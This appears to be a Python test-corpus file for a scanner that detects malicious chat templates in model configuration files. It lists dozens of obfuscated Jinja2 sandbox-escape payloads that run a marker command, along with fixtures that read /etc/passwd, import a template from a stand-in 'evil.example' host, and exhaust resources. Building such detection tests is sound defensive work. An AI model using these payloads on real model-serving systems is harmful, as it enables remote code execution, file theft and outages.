"""Chat templates that leave their sandbox-less renderer: every spelling of the way to the globals."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import json

from tests.corpus.technique import table

_RUN = ".os.popen('touch hauberk-mark').read() }}"
# A new line would be swallowed: these are expressions that all end in a command.
LIVE = {
    "globals": "{{ cycler.__init__.__globals__" + _RUN,
    "lipsum": "{{ lipsum.__globals__" + _RUN,
    "joiner": "{{ joiner.__init__.__globals__" + _RUN,
    "namespace": "{{ namespace.__init__.__globals__" + _RUN,
    "self-template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('touch hauberk-mark').read() }}",
    "self-reference": "{{ self._TemplateReference__context.cycler.__init__.__globals__" + _RUN,
    "attr-filter": "{{ ((cycler|attr('__init__'))|attr('__globals__'))['os'].popen('touch hauberk-mark').read() }}",
    "attr-filter-joined": "{{ ((cycler|attr('__in'~'it__'))|attr('__glo'~'bals__'))['os'].popen('touch hauberk-mark').read() }}",
    "attr-from-list": "{{ ((cycler|attr(['__','init','__']|join))|attr(['__','globals','__']|join))['os'].popen('touch hauberk-mark').read() }}",
    "attr-format": "{{ ((cycler|attr('%s%s%s'|format('__','init','__')))|attr('%s%s%s'|format('__','globals','__')))['os'].popen('touch hauberk-mark').read() }}",
    "attr-reversed": "{{ ((cycler|attr('__tini__'|reverse))|attr('__slabolg__'|reverse))['os'].popen('touch hauberk-mark').read() }}",
    "attr-replace": "{{ ((cycler|attr('__inxit__'|replace('x','')))|attr('__glxobals__'|replace('x','')))['os'].popen('touch hauberk-mark').read() }}",
    "attr-lower": "{{ ((cycler|attr('__INIT__'|lower))|attr('__GLOBALS__'|lower))['os'].popen('touch hauberk-mark').read() }}",
    "attr-escapes": "{{ ((cycler|attr('\\x5f\\x5finit\\x5f\\x5f'))|attr('\\u005f_globals__'))['os'].popen('touch hauberk-mark').read() }}",
    "attr-variable": "{% set a = '__init__' %}{% set b = '__glob' + 'als__' %}{{ ((cycler|attr(a))|attr(b))['os'].popen('touch hauberk-mark').read() }}",
    "attr-loop-variable": "{% for a in ['__globals__'] %}{{ (lipsum|attr(a)).os.popen('touch hauberk-mark').read() }}{% endfor %}",
    "attr-macro": "{% macro get(o, a) %}{{ (o|attr(a)).os.popen('touch hauberk-mark').read() }}{% endmacro %}{{ get(lipsum, '__globals__') }}",
    "subscript": "{{ cycler['__init__']['__globals__']['os'].popen('touch hauberk-mark').read() }}",
    "subscript-joined": "{{ cycler['__in' + 'it__']['__glo' ~ 'bals__']['os'].popen('touch hauberk-mark').read() }}",
    "map-attribute": "{{ ([lipsum]|map(attribute='__globals__')|first).os.popen('touch hauberk-mark').read() }}",
    "map-attribute-joined": "{{ ([lipsum]|map(attribute='__glo'+'bals__')|first).os.popen('touch hauberk-mark').read() }}",
    "map-attr-filter": "{{ ([lipsum]|map('attr','__globals__')|first).os.popen('touch hauberk-mark').read() }}",
    "map-dotted-attribute": "{{ ([cycler]|map(attribute='__init__.__globals__.os')|first).popen('touch hauberk-mark').read() }}",
    "groupby": "{{ ([lipsum]|groupby('__globals__.os')|first|first).popen('touch hauberk-mark').read() }}",
    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__.sys.modules.os.system('touch hauberk-mark') }}{% endif %}{% endfor %}",
    "subclasses-of-tuple": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__.sys.modules.os.system('touch hauberk-mark') }}{% endif %}{% endfor %}",
    "dict-class": "{% for c in {}.__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c.__init__.__globals__.sys.modules.os.system('touch hauberk-mark') }}{% endif %}{% endfor %}",
    "range-builtins": "{{ raise_exception.__globals__.__builtins__.open('hauberk-mark', 'w') }}",
    "function-builtins": "{{ raise_exception.__builtins__.open('hauberk-mark', 'w') }}",
    "function-code": "{{ lipsum.__builtins__.exec('open(\\'hauberk-mark\\',\\'w\\')') }}",
    "method-func": "{{ messages.append.__self__.__class__ }}{{ cycler.next.__globals__" + _RUN,
    "call-block": "{% call(x) lipsum.__globals__.os.popen('touch hauberk-mark').read() %}{% endcall %}",
    "set-block": "{% set x = lipsum.__globals__ %}{{ x.os.system('touch hauberk-mark') }}",
    "with-block": "{% with x = lipsum.__globals__.os %}{{ x.system('touch hauberk-mark') }}{% endwith %}",
    "if-condition": "{% if lipsum.__globals__.os.system('touch hauberk-mark') %}{% endif %}",
    "for-source": "{% for x in lipsum.__globals__.os.popen('touch hauberk-mark') %}{% endfor %}",
    "loop-guarded": "{% for m in messages %}{% if m.role == 'user' %}{{ lipsum.__globals__.os.system('touch hauberk-mark') }}{% endif %}{% endfor %}",
    "undefined-globals": "{{ nothing.__init__.__globals__.sys.modules.os.system('touch hauberk-mark') }}",
    "dict-literal-get": "{{ {'a': lipsum.__globals__}.get('a').os.system('touch hauberk-mark') }}",
    "ternary": "{{ (lipsum if true else 1).__globals__.os.system('touch hauberk-mark') }}",
    "whitespace-control": "{{- cycler . __init__ . __globals__ . os . system ( 'touch hauberk-mark' ) -}}",
    "comment-split": "{{ cycler.__init__ }}{# harmless #}{{ cycler.__init__.__globals__.os.system('touch hauberk-mark') }}",
    "macro-globals": "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__.sys.modules.os.system('touch hauberk-mark') }}",
    "block-references": "{% set ns = namespace(a=lipsum) %}{{ ns.a.__globals__.os.system('touch hauberk-mark') }}",
    "long-honest-then-evil": "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}{% endfor %}" * 30
    + "{{ cycler.__init__.__globals__.os.system('touch hauberk-mark') }}",
}  # fmt: skip

table(
    "templates",
    "chat_template.jinja",
    "jinja",
    {key: each.encode() for key, each in LIVE.items()},
    needs=("jinja2",),
)
_EVIL = LIVE["globals"]
_GOOD = "{% for message in messages %}{{ message.content }}{% endfor %}"
table("templates", "tokenizer_config.json", "jinja", {
    "tokenizer-config": json.dumps({"tokenizer_class": "T", "chat_template": _EVIL}).encode(),
    "tokenizer-config-named": json.dumps({"chat_template": [{"name": "default", "template": _GOOD},
                                                            {"name": "tool_use", "template": _EVIL}]}).encode(),
    "tokenizer-config-escaped": json.dumps({"chat_template": _EVIL}).replace("_", "\\u005f")
    .replace("chat\\u005ftemplate", "chat_template").encode(),
    "tokenizer-config-obfuscated": json.dumps({"chat_template": LIVE["attr-from-list"]}).encode(),
}, needs=("jinja2",))  # fmt: skip
table(
    "templates",
    "chat_template.json",
    "jinja",
    {"processor-chat-template": json.dumps({"chat_template": _EVIL}).encode()},
    needs=("jinja2",),
)
table(
    "templates",
    "processor_config.json",
    "jinja",
    {"processor-config": json.dumps({"processor_class": "P", "chat_template": _EVIL}).encode()},
    needs=("jinja2",),
)
table("templates", "additional_chat_templates/tool.jinja", "", {"additional-template": _EVIL.encode()})
table("templates", "tokenizer_config.json", "", {
    "instruction-override": json.dumps({"chat_template": "{% for message in messages %}{{ message.content }}{% endfor %}"
        "{% include '/etc/passwd' %}"}).encode(),
    "import-template": json.dumps({"chat_template": "{% import 'http://evil.example/x' as x %}{{ x.y() }}"}).encode(),
    "extends-template": json.dumps({"chat_template": "{% extends '../../etc/passwd' %}"}).encode(),
    "range-bomb": json.dumps({"chat_template": "{% for a in range(999999999) %}{% for b in range(999999999) %}x"
        "{% endfor %}{% endfor %}"}).encode(),
    "power-bomb": json.dumps({"chat_template": "{{ 'a' * 999999999999 }}"}).encode(),
})  # fmt: skip
